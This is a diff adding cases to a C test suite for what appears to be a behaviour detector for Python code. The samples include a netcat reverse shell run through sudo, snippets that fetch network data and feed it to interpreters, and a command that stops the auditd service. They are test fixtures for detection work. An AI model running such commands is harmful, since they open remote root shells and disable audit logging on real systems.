@@ -284,6 +284,20 @@ static void fed_shells(void)
 /* Commands word by word: what does harm is seen as in one text. */
 static void as_lists(void)
 {
+	/* an interpreter that has its program, a path that a shell has printed */
+	CHECK(lacks("import subprocess\np = subprocess.Popen(['perl', '-ne', "
+		    "'print uc'], stdin=-1)\np.communicate(s.recv(9))",
+		    MPY_BEH_RECV_RUN));
+	CHECK(lacks("import subprocess, urllib.request as u\n"
+		    "p = subprocess.Popen(['node', 'a.js'], stdin=-1)\n"
+		    "p.stdin.write(u.urlopen(x).read())",
+		    MPY_BEH_NETWORK_RUN));
+	CHECK(lacks("import subprocess, urllib.request as u\n"
+		    "d = subprocess.check_output(['bash', '-c', 'mktemp'])\n"
+		    "open(d, 'wb').write(u.urlopen(x).read())",
+		    MPY_BEH_NETWORK_RUN));
+	CHECK(shows("import os\nos.system('/usr/bin/sudo -n nc h 1 -e /bin/sh')",
+		    MPY_BEH_SHELL_REVERSE, 2));
 	CHECK(shows("import subprocess\n"
 		    "subprocess.run(['systemctl', 'stop', 'auditd'])",
 		    MPY_BEH_DEFENCE_OFF, 2));
